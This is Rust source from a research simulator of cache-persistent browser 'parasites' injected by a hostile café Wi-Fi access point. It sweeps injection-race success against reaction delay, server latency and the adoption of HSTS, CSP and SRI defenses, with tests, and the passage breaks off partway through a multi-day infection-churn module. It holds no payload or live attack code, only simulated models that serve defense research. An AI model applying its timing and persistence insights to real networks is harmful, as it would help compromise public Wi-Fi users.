    /// Whether the vector's defense actually blocks its stage (§VIII matrix).
    pub fn defense_blocks_stage(&self) -> bool {
        !stage_survives(self.defense(), self.stage())
    }

    /// Parses a comma-separated vector list into the [`RunConfig`] bitmask
    /// (`0` means "all vectors").
    pub fn parse_mask(list: &str) -> Result<u8, String> {
        let mut mask = 0u8;
        for part in list.split(',') {
            let needle = part.trim();
            let position = SurfaceVector::ALL
                .iter()
                .position(|vector| vector.as_str() == needle)
                .ok_or_else(|| {
                    format!(
                        "unknown attack vector {:?} (expected one of: {})",
                        needle,
                        SurfaceVector::ALL.map(|v| v.as_str()).join(", ")
                    )
                })?;
            mask |= 1 << position;
        }
        Ok(mask)
    }

    /// Expands the [`RunConfig::surface_vectors`] bitmask (`0` = all).
    fn from_mask(mask: u8) -> Result<Vec<SurfaceVector>, ExperimentError> {
        if mask == 0 {
            return Ok(SurfaceVector::ALL.to_vec());
        }
        if mask >> SurfaceVector::ALL.len() != 0 {
            return Err(ExperimentError::Config(format!(
                "surface_vectors mask {mask:#x} has bits beyond the {} known vectors",
                SurfaceVector::ALL.len()
            )));
        }
        Ok(SurfaceVector::ALL
            .into_iter()
            .enumerate()
            .filter(|(bit, _)| mask & (1 << bit) != 0)
            .map(|(_, vector)| vector)
            .collect())
    }
}

// ---------------------------------------------------------------------------
// Result types
// ---------------------------------------------------------------------------

/// One point of a figure-style curve: raw counts plus the success rate and
/// its Wilson 95% interval, plot-ready.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CurvePoint {
    /// The x coordinate (reaction delay in µs, or adoption fraction).
    pub x: f64,
    /// Successful trials at this point.
    pub successes: u64,
    /// Total trials at this point.
    pub trials: u64,
    /// `successes / trials`.
    pub rate: f64,
    /// Wilson 95% interval, lower bound.
    pub wilson_lo: f64,
    /// Wilson 95% interval, upper bound.
    pub wilson_hi: f64,
}

impl ToJson for CurvePoint {
    fn to_json(&self) -> Json {
        Json::obj([
            ("x", self.x.to_json()),
            ("successes", self.successes.to_json()),
            ("trials", self.trials.to_json()),
            ("rate", self.rate.to_json()),
            ("wilson_lo", self.wilson_lo.to_json()),
            ("wilson_hi", self.wilson_hi.to_json()),
        ])
    }
}

/// The Wilson score interval at 95% confidence.
fn wilson95(successes: u64, trials: u64) -> (f64, f64) {
    if trials == 0 {
        return (0.0, 1.0);
    }
    let z = 1.959963984540054_f64;
    let n = trials as f64;
    let p = successes as f64 / n;
    let z2 = z * z;
    let denom = 1.0 + z2 / n;
    let center = (p + z2 / (2.0 * n)) / denom;
    let half = z * (p * (1.0 - p) / n + z2 / (4.0 * n * n)).sqrt() / denom;
    ((center - half).max(0.0), (center + half).min(1.0))
}

fn curve_point(x: f64, successes: u64, trials: u64) -> CurvePoint {
    let (wilson_lo, wilson_hi) = wilson95(successes, trials);
    CurvePoint {
        x,
        successes,
        trials,
        rate: if trials == 0 { 0.0 } else { successes as f64 / trials as f64 },
        wilson_lo,
        wilson_hi,
    }
}

/// One attack vector's slice of the surface: the raw per-cell grid plus the
/// two derived curves.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct VectorSurface {
    /// The vector id ([`SurfaceVector::as_str`]).
    pub vector: String,
    /// The countermeasure the defended population deploys.
    pub defense: String,
    /// The attack stage the vector must complete.
    pub stage: String,
    /// Whether that defense blocks that stage (§VIII). When `false` the
    /// adoption curve is flat — the paper's CSP headline.
    pub defense_blocks_stage: bool,
    /// Race wins per `(delay, wan, jitter)` cell, delay-major.
    pub race_wins: Vec<u64>,
    /// Post-adoption-gate successes per `(delay, wan, jitter, adoption)`
    /// cell, delay-major, then WAN, then jitter, then adoption.
    pub successes: Vec<u64>,
    /// Race success vs. reaction delay (aggregated over the WAN and jitter
    /// axes).
    pub success_vs_delay: Vec<CurvePoint>,
    /// Race success vs. genuine-server WAN latency (aggregated over the
    /// delay and jitter axes): the race gets *easier* as the real response
    /// travels further, so this curve is monotone non-decreasing.
    pub success_vs_wan: Vec<CurvePoint>,
    /// Per-exposure success vs. defense adoption (aggregated over delay and
    /// jitter).
    pub infection_vs_adoption: Vec<CurvePoint>,
    /// Steady-state infected fraction per adoption point, from the multi-day
    /// churn fixed point `f* = p / (p + q - p·q)` with `p` the per-exposure
    /// success rate and `q` the daily cure rate.
    pub steady_state: Vec<f64>,
}

impl ToJson for VectorSurface {
    fn to_json(&self) -> Json {
        Json::obj([
            ("vector", self.vector.to_json()),
            ("defense", self.defense.to_json()),
            ("stage", self.stage.to_json()),
            ("defense_blocks_stage", self.defense_blocks_stage.to_json()),
            ("race_wins", self.race_wins.to_json()),
            ("successes", self.successes.to_json()),
            ("success_vs_delay", self.success_vs_delay.to_json()),
            ("success_vs_wan", self.success_vs_wan.to_json()),
            ("infection_vs_adoption", self.infection_vs_adoption.to_json()),
            ("steady_state", self.steady_state.to_json()),
        ])
    }
}

/// Result of the attack-surface sweep: the grid axes and one
/// [`VectorSurface`] per requested vector.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SurfaceResult {
    /// Master reaction delays swept, in microseconds.
    pub delays_us: Vec<u64>,
    /// Genuine-server WAN one-way latencies swept, in microseconds.
    pub wans_us: Vec<u64>,
    /// Per-packet WiFi jitter bounds swept, in microseconds.
    pub jitters_us: Vec<u64>,
    /// Defense-adoption fractions swept.
    pub adoption: Vec<f64>,
    /// Seeded race trials per grid cell.
    pub trials: usize,
    /// Daily cure rate `q` feeding the steady-state fixed point (cache
    /// clears plus `fleet_churn` turnover).
    pub daily_cure_rate: f64,
    /// One surface per attack vector.
    pub vectors: Vec<VectorSurface>,
    /// Simulator events processed across every cell of the sweep.
    pub total_events: u64,
}

impl SurfaceResult {
    /// Renders the two figure-style tables per vector.
    pub fn render(&self) -> String {
        let mut out = format!(
            "Attack surface - race x defense probability sweep\n\
             grid: {} vectors x {} delays x {} wans x {} jitters x {} adoption points, \
             {} trials/cell ({} events)\n",
            self.vectors.len(),
            self.delays_us.len(),
            self.wans_us.len(),
            self.jitters_us.len(),
            self.adoption.len(),
            self.trials,
            self.total_events,
        );
        for vector in &self.vectors {
            out.push_str(&format!(
                "\nvector {} - {} vs {} ({})\n",
                vector.vector,
                vector.stage,
                vector.defense,
                if vector.defense_blocks_stage {
                    "defense blocks the stage"
                } else {
                    "defense does NOT block the stage"
                },
            ));
            out.push_str("  reaction delay us | success rate [wilson 95%]\n");
            for point in &vector.success_vs_delay {
                out.push_str(&format!(
                    "  {:>17} | {:>6.1} %  [{:>5.1}, {:>5.1}]\n",
                    point.x as u64,
                    point.rate * 100.0,
                    point.wilson_lo * 100.0,
                    point.wilson_hi * 100.0,
                ));
            }
            if self.wans_us.len() > 1 {
                out.push_str("  server wan us | success rate [wilson 95%]\n");
                for point in &vector.success_vs_wan {
                    out.push_str(&format!(
                        "  {:>13} | {:>6.1} %  [{:>5.1}, {:>5.1}]\n",
                        point.x as u64,
                        point.rate * 100.0,
                        point.wilson_lo * 100.0,
                        point.wilson_hi * 100.0,
                    ));
                }
            }
            out.push_str("  adoption | per-exposure success | steady-state infected\n");
            for (point, steady) in vector.infection_vs_adoption.iter().zip(&vector.steady_state) {
                out.push_str(&format!(
                    "  {:>7.0} % | {:>18.1} % | {:>19.1} %\n",
                    point.x * 100.0,
                    point.rate * 100.0,
                    steady * 100.0,
                ));
            }
        }
        out
    }
}

impl ToJson for SurfaceResult {
    fn to_json(&self) -> Json {
        Json::obj([
            ("delays_us", self.delays_us.to_json()),
            ("wans_us", self.wans_us.to_json()),
            ("jitters_us", self.jitters_us.to_json()),
            ("adoption", self.adoption.to_json()),
            ("trials", self.trials.to_json()),
            ("daily_cure_rate", self.daily_cure_rate.to_json()),
            ("vectors", self.vectors.to_json()),
            ("total_events", self.total_events.to_json()),
        ])
    }
}

// ---------------------------------------------------------------------------
// The sweep
// ---------------------------------------------------------------------------

/// One grid cell's simulation task: a race world at a fixed (vector, delay,
/// jitter) coordinate. The adoption axis is applied afterwards — it gates
/// outcomes, it does not change the packet-level race.
struct CellTask {
    seed: u64,
    delay_us: u64,
    wan_us: u64,
    jitter_us: u64,
}

/// Outcome of one cell's race world: per-trial win flags plus the event count.
struct CellOutcome {
    wins: Vec<bool>,
    events: u64,
}

/// Runs one cell: `trials` victims on the shared WiFi of a fresh
/// [`build_race_world`] under the cell's timing, each racing the master.
fn run_cell(
    task: &CellTask,
    config: &RunConfig,
    shared: Option<&SharedBudget>,
) -> Result<CellOutcome, NetError> {
    let timing = RaceTiming {
        attacker_reaction_us: task.delay_us,
        server_one_way_us: task.wan_us,
        ..RaceTiming::PAPER
    };
    let RaceWorld {
        mut sim,
        wifi,
        server,
        target,
    } = build_race_world(task.seed, &timing, config.event_budget, TraceMode::SummaryOnly, shared);
    if task.jitter_us > 0 {
        sim.set_medium_jitter(wifi, SimDuration::from_micros(task.jitter_us));
    }

    let mut connections = Vec::with_capacity(config.surface_trials);
    for index in 0..config.surface_trials {
        let ip = IpAddr::new(10, (index >> 8) as u8, (index & 0xff) as u8, 2);
        let client = sim.add_host("client", ip, wifi);
        let conn = sim.connect(client, server, 80)?;
        sim.send(client, conn, &Request::get(target.clone()).to_wire())?;
        connections.push((client, conn));
    }
    sim.run_until_idle()?;

    let wins = connections
        .into_iter()
        .map(|(client, conn)| {
            Response::from_wire(&sim.received(client, conn))
                .ok()
                .map(|r| Parasite::detect(&r.body.as_text()).is_some())
                .unwrap_or(false)
        })
        .collect();
    Ok(CellOutcome { wins, events: sim.events_processed() })
}

/// The linearly spaced reaction-delay axis.
fn delay_axis(config: &RunConfig) -> Vec<u64> {
    let steps = config.surface_delay_steps.max(1);
    let (start, end) = (config.surface_delay_start_us, config.surface_delay_end_us);
    if steps == 1 || start == end {
        return vec![start];
    }
    (0..steps)
        .map(|i| start + (end - start) * i as u64 / (steps - 1) as u64)
        .collect()
}

/// The linearly spaced WAN-latency axis (genuine server one-way time). The
/// default single point is the paper's 40 ms internet path.
fn wan_axis(config: &RunConfig) -> Vec<u64> {
    let steps = config.surface_wan_steps.max(1);
    let (start, end) = (config.surface_wan_start_us, config.surface_wan_end_us);
    if steps == 1 || start == end {
        return vec![start];
    }
    (0..steps)
        .map(|i| start + (end - start) * i as u64 / (steps - 1) as u64)
        .collect()
}

/// The adoption axis: `steps` evenly spaced fractions covering `[0, 1]`.
fn adoption_axis(config: &RunConfig) -> Vec<f64> {
    let steps = config.surface_adoption_steps.max(1);
    if steps == 1 {
        return vec![0.0];
    }
    (0..steps).map(|i| i as f64 / (steps - 1) as f64).collect()
}

/// Per-trial defense-adoption coordinates for one cell: a uniform draw in
/// `[0, 1)` per trial from the [`ADOPT_TAG`] stream. A trial is defended
/// under adoption `a` iff its coordinate is below `a` — the draw never sees
/// `a`, so raising adoption only ever grows the defended set (the curve is
/// monotone by construction).
fn adoption_coordinates(config: &RunConfig, tag: u64) -> Vec<f64> {
    let mut rng = StdRng::seed_from_u64(mix_seed(config.seed, ADOPT_TAG ^ tag));
    (0..config.surface_trials).map(|_| rng.gen::<f64>()).collect()
}

/// Runs the attack-surface sweep (see the module docs).
pub(super) fn attack_surface(
    config: &RunConfig,
    ctx: &RunCtx,
) -> Result<SurfaceResult, ExperimentError> {
    if config.surface_trials == 0 {
        return Err(ExperimentError::Config(
            "surface_trials must be at least 1".to_string(),
        ));
    }
    if config.surface_trials > MAX_CLIENTS_PER_AP {
        return Err(ExperimentError::Config(format!(
            "surface_trials is {}, but one race world holds at most {MAX_CLIENTS_PER_AP} victims",
            config.surface_trials
        )));
    }
    if config.surface_delay_start_us > config.surface_delay_end_us {
        return Err(ExperimentError::Config(format!(
            "surface delay range is inverted: [{}, {}]",
            config.surface_delay_start_us, config.surface_delay_end_us
        )));
    }
    if config.surface_wan_start_us > config.surface_wan_end_us {
        return Err(ExperimentError::Config(format!(
            "surface WAN range is inverted: [{}, {}]",
            config.surface_wan_start_us, config.surface_wan_end_us
        )));
    }
    if config.surface_delay_steps > MAX_AXIS_STEPS
        || config.surface_wan_steps > MAX_AXIS_STEPS
        || config.surface_adoption_steps > MAX_AXIS_STEPS
    {
        return Err(ExperimentError::Config(format!(
            "surface axes are capped at {MAX_AXIS_STEPS} steps"
        )));
    }
    let vectors = SurfaceVector::from_mask(config.surface_vectors)?;
    let delays = delay_axis(config);
    let wans = wan_axis(config);
    let jitters = if config.jitter_us == 0 { vec![0] } else { vec![0, config.jitter_us] };
    let adoption = adoption_axis(config);
    let shared = ctx.budget_for(config);

    // One race world per (vector, delay, wan, jitter) cell, each under its
    // own seed stream; the full task list runs on the order-preserving pool,
    // so jobs=1 and parallel runs produce identical artifacts.
    let tasks: Vec<CellTask> = vectors
        .iter()
        .enumerate()
        .flat_map(|(v, _)| {
            let delays = &delays;
            let wans = &wans;
            let jitters = &jitters;
            delays.iter().enumerate().flat_map(move |(d, &delay_us)| {
                wans.iter().enumerate().flat_map(move |(w, &wan_us)| {
                    jitters.iter().enumerate().map(move |(j, &jitter_us)| CellTask {
                        seed: mix_seed(config.seed, SURFACE_TAG ^ cell_tag(v, d, w, j)),
                        delay_us,
                        wan_us,
                        jitter_us,
                    })
                })
            })
        })
        .collect();
    let jobs = fleet_jobs(config, tasks.len());
    let outcomes = parallel_tasks(&tasks, jobs, |task| run_cell(task, config, shared.as_ref()));

    let mut total_events = 0u64;
    let mut surfaces = Vec::with_capacity(vectors.len());
    let cells_per_vector = delays.len() * wans.len() * jitters.len();
    for (v, vector) in vectors.iter().enumerate() {
        let blocked = vector.defense_blocks_stage();
        let mut race_wins = Vec::with_capacity(cells_per_vector);
        let mut successes = Vec::with_capacity(cells_per_vector * adoption.len());
        let mut delay_wins = vec![0u64; delays.len()];
        let mut wan_wins = vec![0u64; wans.len()];
        let mut adoption_successes = vec![0u64; adoption.len()];
        for (d, d_wins) in delay_wins.iter_mut().enumerate() {
            for (w, w_wins) in wan_wins.iter_mut().enumerate() {
                for j in 0..jitters.len() {
                    let cell = (d * wans.len() + w) * jitters.len() + j;
                    let outcome = outcomes[v * cells_per_vector + cell]
                        .as_ref()
                        .map_err(|error| ExperimentError::Net(error.clone()))?;
                    total_events += outcome.events;
                    let wins = outcome.wins.iter().filter(|&&win| win).count() as u64;
                    race_wins.push(wins);
                    *d_wins += wins;
                    *w_wins += wins;
                    let coordinates = adoption_coordinates(config, cell_tag(v, d, w, j));
                    for (k, &a) in adoption.iter().enumerate() {
                        let survived = outcome
                            .wins
                            .iter()
                            .zip(&coordinates)
                            .filter(|&(&win, &u)| win && !(blocked && u < a))
                            .count() as u64;
                        successes.push(survived);
                        adoption_successes[k] += survived;
                    }
                }
            }
        }
        let per_delay_trials = (wans.len() * jitters.len() * config.surface_trials) as u64;
        let per_wan_trials = (delays.len() * jitters.len() * config.surface_trials) as u64;
        let per_adoption_trials = (cells_per_vector * config.surface_trials) as u64;
        let q = DAILY_CACHE_CLEAR + config.fleet_churn - DAILY_CACHE_CLEAR * config.fleet_churn;
        let infection_vs_adoption: Vec<CurvePoint> = adoption
            .iter()
            .zip(&adoption_successes)
            .map(|(&a, &s)| curve_point(a, s, per_adoption_trials))
            .collect();
        surfaces.push(VectorSurface {
            vector: vector.as_str().to_string(),
            defense: vector.defense().to_string(),
            stage: vector.stage().to_string(),
            defense_blocks_stage: blocked,
            race_wins,
            successes,
            success_vs_delay: delays
                .iter()
                .zip(&delay_wins)
                .map(|(&delay, &wins)| curve_point(delay as f64, wins, per_delay_trials))
                .collect(),
            success_vs_wan: wans
                .iter()
                .zip(&wan_wins)
                .map(|(&wan, &wins)| curve_point(wan as f64, wins, per_wan_trials))
                .collect(),
            steady_state: infection_vs_adoption
                .iter()
                .map(|point| {
                    let p = point.rate;
                    if p + q - p * q == 0.0 { 0.0 } else { p / (p + q - p * q) }
                })
                .collect(),
            infection_vs_adoption,
        });
    }

    Ok(SurfaceResult {
        delays_us: delays,
        wans_us: wans,
        jitters_us: jitters,
        adoption,
        trials: config.surface_trials,
        daily_cure_rate: DAILY_CACHE_CLEAR + config.fleet_churn
            - DAILY_CACHE_CLEAR * config.fleet_churn,
        vectors: surfaces,
        total_events,
    })
}

#[cfg(test)]
mod tests {
    use super::super::{ExperimentId, Registry, RunConfig};
    use super::*;
    use crate::json::Json;

    fn small_config() -> RunConfig {
        RunConfig {
            seed: 7,
            surface_trials: 32,
            surface_delay_start_us: 300,
            surface_delay_end_us: 160_000,
            surface_delay_steps: 5,
            surface_adoption_steps: 5,
            fleet_jobs: 1,
            ..RunConfig::default()
        }
    }

    #[test]
    fn surface_curves_are_monotone_in_delay_and_adoption() {
        // The acceptance property: success probability is monotonically
        // non-increasing in master reaction delay (at jitter 0 the race is a
        // deterministic step function of the delay) and in defense adoption
        // (common random numbers make this hold by construction).
        let artifact = Registry::get(ExperimentId::AttackSurface).run(&small_config());
        let result = artifact.data.as_attack_surface().expect("surface artifact");
        assert_eq!(result.vectors.len(), 4);
        for vector in &result.vectors {
            for pair in vector.success_vs_delay.windows(2) {
                assert!(
                    pair[1].successes <= pair[0].successes,
                    "{}: success must not increase with reaction delay",
                    vector.vector
                );
            }
            for pair in vector.infection_vs_adoption.windows(2) {
                assert!(
                    pair[1].successes <= pair[0].successes,
                    "{}: success must not increase with adoption",
                    vector.vector
                );
            }
            for pair in vector.steady_state.windows(2) {
                assert!(pair[1] <= pair[0], "{}: steady state must not rise", vector.vector);
            }
        }
        // The paper's timing wins at 300 µs reaction and loses at 160 ms —
        // the curve actually spans the crossover.
        let hsts = &result.vectors[0];
        assert_eq!(hsts.success_vs_delay.first().unwrap().rate, 1.0);
        assert_eq!(hsts.success_vs_delay.last().unwrap().rate, 0.0);
    }

    #[test]
    fn csp_adoption_curve_is_flat_and_blocking_defenses_reach_zero() {
        // The paper's §VIII headline, measured: strict CSP does not stop the
        // active injection race (flat adoption curve), while full HSTS
        // preloading removes every victim.
        let artifact = Registry::get(ExperimentId::AttackSurface).run(&small_config());
        let result = artifact.data.as_attack_surface().expect("surface artifact");
        let by_name = |name: &str| {
            result.vectors.iter().find(|v| v.vector == name).expect("vector present")
        };
        let csp = by_name("race_vs_csp");
        assert!(!csp.defense_blocks_stage);
        let baseline = csp.infection_vs_adoption[0].successes;
        assert!(baseline > 0);
        for point in &csp.infection_vs_adoption {
            assert_eq!(point.successes, baseline, "CSP adoption must not change the race");
        }
        let hsts = by_name("race_vs_hsts");
        assert!(hsts.defense_blocks_stage);
        assert!(hsts.infection_vs_adoption[0].successes > 0);
        assert_eq!(
            hsts.infection_vs_adoption.last().unwrap().successes,
            0,
            "full HSTS adoption leaves no plaintext window"
        );
    }

    #[test]
    fn surface_is_deterministic_across_jobs_and_shards() {
        let config = small_config();
        let sequential = Registry::get(ExperimentId::AttackSurface).run(&config);
        for variant in [
            RunConfig { fleet_jobs: 4, ..config },
            RunConfig { fleet_jobs: 0, ..config },
            RunConfig { fleet_shards: 8, ..config },
        ] {
            let other = Registry::get(ExperimentId::AttackSurface).run(&variant);
            assert_eq!(sequential.data, other.data);
            assert_eq!(
                sequential.data.to_json().to_string(),
                other.data.to_json().to_string(),
                "byte-identical down to the JSON wire form"
            );
        }
    }

    #[test]
    fn vector_mask_round_trips_and_rejects_unknowns() {
        assert_eq!(SurfaceVector::parse_mask("race_vs_hsts"), Ok(0b0001));
        assert_eq!(
            SurfaceVector::parse_mask("race_vs_csp, persist_vs_sri"),
            Ok(0b0110)
        );
        assert!(SurfaceVector::parse_mask("race_vs_nothing").is_err());
        assert_eq!(SurfaceVector::from_mask(0).unwrap(), SurfaceVector::ALL.to_vec());
        assert_eq!(
            SurfaceVector::from_mask(0b0101).unwrap(),
            vec![SurfaceVector::RaceVsHsts, SurfaceVector::PersistVsSri]
        );
        assert!(SurfaceVector::from_mask(0b1_0000).is_err());
        // A single-vector sweep carries exactly that vector.
        let config = RunConfig { surface_vectors: 0b0010, ..small_config() };
        let artifact = Registry::get(ExperimentId::AttackSurface).run(&config);
        let result = artifact.data.as_attack_surface().expect("surface artifact");
        assert_eq!(result.vectors.len(), 1);
        assert_eq!(result.vectors[0].vector, "race_vs_csp");
    }

    #[test]
    fn invalid_surface_configs_are_typed_errors() {
        let experiment = Registry::get(ExperimentId::AttackSurface);
        for bad in [
            RunConfig { surface_trials: 0, ..small_config() },
            RunConfig { surface_trials: MAX_CLIENTS_PER_AP + 1, ..small_config() },
            RunConfig {
                surface_delay_start_us: 10_000,
                surface_delay_end_us: 300,
                ..small_config()
            },
            RunConfig { surface_delay_steps: MAX_AXIS_STEPS + 1, ..small_config() },
            RunConfig {
                surface_wan_start_us: 100_000,
                surface_wan_end_us: 10_000,
                ..small_config()
            },
            RunConfig { surface_wan_steps: MAX_AXIS_STEPS + 1, ..small_config() },
        ] {
            match experiment.try_run(&bad) {
                Err(ExperimentError::Config(_)) => {}
                other => panic!("expected a config error, got {other:?}"),
            }
        }
    }

    #[test]
    fn jitter_axis_and_wilson_intervals_are_well_formed() {
        let config = RunConfig { jitter_us: 400, ..small_config() };
        let artifact = Registry::get(ExperimentId::AttackSurface).run(&config);
        let result = artifact.data.as_attack_surface().expect("surface artifact");
        assert_eq!(result.jitters_us, vec![0, 400]);
        for vector in &result.vectors {
            assert_eq!(vector.race_wins.len(), result.delays_us.len() * 2);
            assert_eq!(
                vector.successes.len(),
                result.delays_us.len() * 2 * result.adoption.len()
            );
            for point in vector.success_vs_delay.iter().chain(&vector.infection_vs_adoption) {
                assert!(point.wilson_lo <= point.rate && point.rate <= point.wilson_hi);
                assert!((0.0..=1.0).contains(&point.wilson_lo));
                assert!((0.0..=1.0).contains(&point.wilson_hi));
                assert!(point.successes <= point.trials);
            }
        }
        // The JSON wire form parses and carries the grid axes.
        let parsed = Json::parse(&artifact.to_json().to_string()).expect("valid JSON");
        let data = parsed.get("data").expect("data");
        assert_eq!(data.get("trials").and_then(Json::as_u64), Some(32));
        assert_eq!(
            data.get("vectors").and_then(Json::as_array).map(<[Json]>::len),
            Some(4)
        );
    }

    #[test]
    fn wan_axis_defaults_to_the_paper_point_and_sweeps_monotonically() {
        // Default grid: one WAN point — the paper's 40 ms internet path —
        // and a single-point success_vs_wan curve per vector.
        let artifact = Registry::get(ExperimentId::AttackSurface).run(&small_config());
        let result = artifact.data.as_attack_surface().expect("surface artifact");
        assert_eq!(result.wans_us, vec![40_000]);
        for vector in &result.vectors {
            assert_eq!(vector.success_vs_wan.len(), 1);
        }

        // Swept: the race only gets easier as the genuine response travels
        // further, so success is monotone non-DEcreasing in WAN latency
        // (the mirror image of the reaction-delay axis).
        let config = RunConfig {
            surface_wan_start_us: 5_000,
            surface_wan_end_us: 120_000,
            surface_wan_steps: 4,
            ..small_config()
        };
        let artifact = Registry::get(ExperimentId::AttackSurface).run(&config);
        let result = artifact.data.as_attack_surface().expect("surface artifact");
        assert_eq!(result.wans_us.len(), 4);
        assert_eq!(result.wans_us, {
            let mut sorted = result.wans_us.clone();
            sorted.sort_unstable();
            sorted
        });
        for vector in &result.vectors {
            assert_eq!(
                vector.race_wins.len(),
                result.delays_us.len() * result.wans_us.len()
            );
            assert_eq!(vector.success_vs_wan.len(), 4);
            for pair in vector.success_vs_wan.windows(2) {
                assert!(
                    pair[1].successes >= pair[0].successes,
                    "{}: success must not drop as the genuine server moves further away",
                    vector.vector
                );
            }
            // Delay monotonicity survives aggregation over the WAN axis.
            for pair in vector.success_vs_delay.windows(2) {
                assert!(pair[1].successes <= pair[0].successes);
            }
        }
        // A slow master that loses against a nearby server wins against a
        // distant one: the WAN curve actually moves.
        let hsts = &result.vectors[0];
        assert!(
            hsts.success_vs_wan.last().unwrap().successes
                > hsts.success_vs_wan.first().unwrap().successes,
            "the swept WAN range must span a race crossover"
        );

        // Deterministic across scheduling hints, like every other axis.
        let parallel = Registry::get(ExperimentId::AttackSurface)
            .run(&RunConfig { fleet_jobs: 4, ..config });
        assert_eq!(artifact.data, parallel.data);
        assert_eq!(
            artifact.data.to_json().to_string(),
            parallel.data.to_json().to_string()
        );
    }

    #[test]
    fn wilson_interval_matches_reference_values() {
        // Reference: Wilson (1927) at z = 1.96 for 8/10.
        let (lo, hi) = wilson95(8, 10);
        assert!((lo - 0.4901).abs() < 1e-3, "lo = {lo}");
        assert!((hi - 0.9433).abs() < 1e-3, "hi = {hi}");
        // Degenerate cases stay in [0, 1].
        assert_eq!(wilson95(0, 0), (0.0, 1.0));
        let (lo, hi) = wilson95(10, 10);
        assert!(lo > 0.6 && hi > 1.0 - 1e-12);
    }
}
