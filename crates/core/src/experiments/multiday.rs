//! Multi-day persistent campaigns: the Figure 3 churn model applied to the
//! population-scale café-AP fleet.
//!
//! The paper's core claim is *persistence* — a parasite that survives across
//! browsing sessions and days. The classic `campaign_fleet` experiment is a
//! single homogeneous snapshot; this module runs it longitudinally:
//!
//! * **Seats, not sessions.** The campaign tracks `fleet_clients` *seats*.
//!   Each simulated day a `fleet_churn` fraction of every seat's occupants
//!   departs and is replaced by a fresh (clean-cached) arrival, and a small
//!   share of infected residents clears their browser cache (Table III says
//!   only "clear cookies / site data" actually removes the parasite — most
//!   refreshes do not, which is why the daily clear rate is low).
//! * **Figure 3 object churn.** The campaign's target object is a
//!   [`ChurningObject`] in the [`StabilityClass::SlowChurn`] class: each day
//!   it may be renamed by its site, which breaks every parasite riding on it
//!   (the infection population collapses and the master has to re-prepare
//!   the new name — the rise-and-fall dynamics of Figure 3).
//! * **Daily exposure.** Every seat whose cache is clean browses through the
//!   hostile café AP again and goes through the packet-level injection race
//!   (the same per-AP simulations the snapshot fleet runs, optionally under
//!   per-AP heterogeneity profiles). Infected seats carry their parasite
//!   forward without touching the network — persistence costs no packets.
//! * **Checkpoint/resume.** Day state is a pure function of the campaign
//!   seed and the previous day's state (per-day RNG streams are *derived*,
//!   never carried), so a compact JSON checkpoint written after each day
//!   allows a killed N-day campaign to resume and produce a byte-identical
//!   final artifact.

use super::campaign::{
    fleet_jobs, mix_seed, plan_ap_tasks, requests_unprepared_object, simulate_ap_with,
    CampaignFleetResult,
};
use super::{parallel_tasks, ExperimentError, RunConfig, RunCtx};
use crate::json::{Json, ToJson};
use mp_netsim::dist::Dist;
use mp_netsim::error::NetError;
use mp_netsim::sim::SharedBudget;
use mp_webgen::{ChurningObject, StabilityClass};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};
use std::path::Path;

/// Seed-stream tag for per-day RNG streams: day `d` draws from
/// `mix_seed(campaign_seed, DAY_TAG ^ d)`, disjoint from the per-AP, shard
/// and profile streams of the campaign module.
const DAY_TAG: u64 = 0xda75_0000_0000_0000;

/// Seed-stream tag for the target object's initial content hash.
const TARGET_TAG: u64 = 0x7a26_e700_0000_0000;

/// Seed-stream tag for the per-seat daily-visit probability draw
/// (`fleet_visit_prob < 1`): one [`Dist::Triangular`] sample per seat,
/// disjoint from the day/target/AP/profile/shard streams (collision-tested
/// alongside them in the campaign module).
pub(super) const VISIT_TAG: u64 = 0x7151_7000_0000_0000;

/// Daily probability that an *infected* seat clears its browser cache (the
/// only Table III refresh method that removes a Cache-API parasite). Kept
/// deliberately low: the paper's point is that ordinary refreshing does not
/// help. Shared with the attack-surface sweep, whose steady-state fixed
/// point uses the same daily cure rate.
pub(super) const DAILY_CACHE_CLEAR: f64 = 0.01;

/// Checkpoint format version written by [`write_checkpoint`].
const CHECKPOINT_VERSION: u64 = 1;

// ---------------------------------------------------------------------------
// Day statistics
// ---------------------------------------------------------------------------

/// What happened on one simulated day of a multi-day campaign.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct DayStats {
    /// The day number (1-based).
    pub day: u32,
    /// Seats whose occupant departed (their cache leaves with them).
    pub departures: usize,
    /// Fresh clean arrivals (equals `departures`: the café stays full).
    pub arrivals: usize,
    /// Infected residents who cleared their browser cache today.
    pub cache_clears: usize,
    /// Whether the target object was renamed by its site today (Figure 3
    /// churn): a rotation breaks every parasite riding on the old name.
    pub object_rotated: bool,
    /// Infections broken by today's object rotation.
    pub rotation_cured: usize,
    /// Clean seats that browsed through the hostile AP and were raced.
    pub exposed: usize,
    /// Seats that newly picked up the parasite today.
    pub newly_infected: usize,
    /// AP simulations that failed today (event budget); their exposed seats
    /// stay clean.
    pub failed_aps: usize,
    /// Infected population at the end of the day.
    pub infected: usize,
    /// Clean population at the end of the day.
    pub clean: usize,
    /// Simulator events spent on today's exposures.
    pub events: u64,
}

impl ToJson for DayStats {
    fn to_json(&self) -> Json {
        Json::obj([
            ("day", self.day.to_json()),
            ("departures", self.departures.to_json()),
            ("arrivals", self.arrivals.to_json()),
            ("cache_clears", self.cache_clears.to_json()),
            ("object_rotated", self.object_rotated.to_json()),
            ("rotation_cured", self.rotation_cured.to_json()),
            ("exposed", self.exposed.to_json()),
            ("newly_infected", self.newly_infected.to_json()),
            ("failed_aps", self.failed_aps.to_json()),
            ("infected", self.infected.to_json()),
            ("clean", self.clean.to_json()),
            ("events", self.events.to_json()),
        ])
    }
}

impl DayStats {
    /// Reads a day back from its [`ToJson`] form. The [`ToJson`] output is
    /// the per-day wire format shared by the checkpoint codec and the
    /// service daemon's `day` stream messages, so clients (`mp_service`)
    /// decode with this too.
    pub fn from_json(json: &Json) -> Option<DayStats> {
        let usize_of = |key: &str| json.get(key).and_then(Json::as_u64).map(|n| n as usize);
        Some(DayStats {
            day: json.get("day").and_then(Json::as_u64)? as u32,
            departures: usize_of("departures")?,
            arrivals: usize_of("arrivals")?,
            cache_clears: usize_of("cache_clears")?,
            object_rotated: json.get("object_rotated").and_then(Json::as_bool)?,
            rotation_cured: usize_of("rotation_cured")?,
            exposed: usize_of("exposed")?,
            newly_infected: usize_of("newly_infected")?,
            failed_aps: usize_of("failed_aps")?,
            infected: usize_of("infected")?,
            clean: usize_of("clean")?,
